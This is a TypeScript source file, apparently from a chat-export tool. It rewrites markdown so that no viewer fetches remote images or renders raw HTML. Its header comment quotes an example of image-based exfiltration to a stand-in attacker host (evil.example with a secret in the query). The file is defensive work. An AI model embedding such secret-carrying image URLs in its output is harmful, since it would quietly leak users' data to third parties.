// Markdown that loads nothing when opened. An exported answer is opened later in other viewers
// (an editor's preview, a git host, a notes app), and any of them would fetch a remote image —
// ![](https://evil.example/?q=<secret>) — just by showing it, sending whatever the URL carries.
// So, outside code: an image whose source is not inline data becomes its alt text and its URL
// as code (text no viewer fetches or links), and raw HTML tags are escaped so they show as
// text (<img>, <video>, <audio>, <source>, <iframe>, <object>, <svg>, style=url(), …).
// Links stay: they need a click. Code blocks and code spans stay exactly as written.

/** Sources a viewer shows without fetching anything. */
const INLINE_IMAGE = /^data:image\/(?:png|gif|jpeg|webp);/i;
/** An opening code fence: up to 3 spaces, then 3+ backticks or tildes. */
const FENCE = /^ {0,3}(`{3,}|~{3,})/;
/** A reference definition: [label]: destination */
const DEFINITION = /^ {0,3}\[((?:[^\]\\]|\\.){1,999})\]:\s*(?:<([^>\n]*)>|(\S+))/;
/** Autolinks (<https://…>, <mailto:…>, <a@b.c>): links, not tags. */
const AUTOLINK = /^<(?:[A-Za-z][A-Za-z0-9+.-]{1,31}:[^\s<>]*|[^\s<>@]+@[^\s<>]+)>/;
/** The start of a raw HTML tag, comment, declaration or processing instruction. */
const TAG_START = /^<(?:[A-Za-z]|\/[A-Za-z]|!|\?)/;

const normalizeLabel = (label: string) => label.trim().replace(/\s+/g, " ").toLowerCase();

/** The text between `[` at `open` and its matching `]` (nesting and escapes allowed). */
function bracketed(text: string, open: number): { inner: string; end: number } | null {
  let depth = 0;
  for (let i = open; i < text.length; i++) {
    const c = text[i];
    if (c === "\\") i++;
    else if (c === "[") depth++;
    else if (c === "]" && --depth === 0) return { inner: text.slice(open + 1, i), end: i + 1 };
    else if (c === "\n" && text[i + 1] === "\n") return null; // a blank line ends a paragraph
  }
  return null;
}

/** An inline destination `(url "title")` at `open`: the URL and where the construct ends. */
function destination(text: string, open: number): { url: string; end: number } | null {
  let i = open + 1;
  while (text[i] === " " || text[i] === "\n") i++;
  let url = "";
  if (text[i] === "<") {
    const close = text.indexOf(">", i);
    if (close < 0) return null;
    url = text.slice(i + 1, close);
    i = close + 1;
  } else {
    let depth = 0;
    const start = i;
    for (; i < text.length; i++) {
      const c = text[i]!;
      if (c === "\\") i++;
      else if (c === "(") depth++;
      else if (c === ")" && depth-- === 0) break;
      else if (/\s/.test(c)) break;
    }
    url = text.slice(start, i);
  }
  // Skip an optional title up to the closing parenthesis.
  let depth = 0;
  for (; i < text.length; i++) {
    const c = text[i];
    if (c === "\\") i++;
    else if (c === "(") depth++;
    else if (c === ")" && depth-- === 0) return { url, end: i + 1 };
  }
  return null;
}

function inertImage(alt: string, url: string): string {
  const shownUrl = url.replace(/`/g, "%60").replace(/\s+/g, " ").trim();
  return `[image: ${alt.replace(/[[\]]/g, "")}]${shownUrl ? ` (\`${shownUrl}\`)` : ""}`;
}

/** Rewrites one stretch of text that is not code. */
function inertText(text: string, definitions: Map<string, string>): string {
  let out = "";
  let i = 0;
  while (i < text.length) {
    const c = text[i]!;
    if (c === "\\") {
      out += text.slice(i, i + 2);
      i += 2;
      continue;
    }
    if (c === "!" && text[i + 1] === "[") {
      const image = imageAt(text, i, definitions);
      if (image) {
        out += image.replacement;
        i = image.end;
        continue;
      }
    }
    if (c === "<") {
      const rest = text.slice(i, i + 2048);
      if (AUTOLINK.test(rest)) {
        const m = AUTOLINK.exec(rest)!;
        out += m[0];
        i += m[0].length;
        continue;
      }
      if (TAG_START.test(rest)) {
        out += "&lt;";
        i++;
        continue;
      }
    }
    out += c;
    i++;
  }
  return out;
}

/** An image at `at` (`![alt](url)`, `![alt][ref]`, `![alt][]`, `![ref]`) with its inert form. */
function imageAt(text: string, at: number, definitions: Map<string, string>): { replacement: string; end: number } | null {
  const label = bracketed(text, at + 1);
  if (!label) return null;
  let url: string | undefined;
  let end = label.end;
  if (text[end] === "(") {
    const dest = destination(text, end);
    if (!dest) return null;
    url = dest.url;
    end = dest.end;
  } else if (text[end] === "[") {
    const ref = bracketed(text, end);
    if (!ref) return null;
    url = definitions.get(normalizeLabel(ref.inner || label.inner));
    end = ref.end;
  } else url = definitions.get(normalizeLabel(label.inner));
  if (url === undefined || INLINE_IMAGE.test(url.trim())) return null;
  return { replacement: inertImage(label.inner, url), end };
}

/** Splits a line into code spans (kept) and the text around them (rewritten). */
function inertLine(line: string, definitions: Map<string, string>): string {
  let out = "";
  let i = 0;
  while (i < line.length) {
    const tick = line.indexOf("`", i);
    if (tick < 0) break;
    const run = /^`+/.exec(line.slice(tick))![0];
    const close = line.indexOf(run, tick + run.length);
    if (close < 0) break;
    out += inertText(line.slice(i, tick), definitions) + line.slice(tick, close + run.length);
    i = close + run.length;
  }
  return out + inertText(line.slice(i), definitions);
}

export function inertMarkdown(markdown: string): string {
  const lines = markdown.split("\n");
  const definitions = new Map<string, string>();
  for (const line of lines) {
    const m = DEFINITION.exec(line);
    if (m) definitions.set(normalizeLabel(m[1]!), m[2] ?? m[3] ?? "");
  }
  let fence: string | null = null;
  // Paragraph by paragraph, so an image written across a line break is still found.
  const out: string[] = [];
  let paragraph: string[] = [];
  const flush = () => {
    if (paragraph.length) out.push(inertLine(paragraph.join("\n"), definitions));
    paragraph = [];
  };
  for (const line of lines) {
    const opening = FENCE.exec(line)?.[1];
    if (fence) {
      out.push(line);
      if (opening && opening[0] === fence[0] && opening.length >= fence.length && line.trim() === opening) fence = null;
    } else if (opening) {
      flush();
      fence = opening;
      out.push(line);
    } else if (line.trim() === "") {
      flush();
      out.push(line);
    } else paragraph.push(line);
  }
  flush();
  return out.join("\n");
}
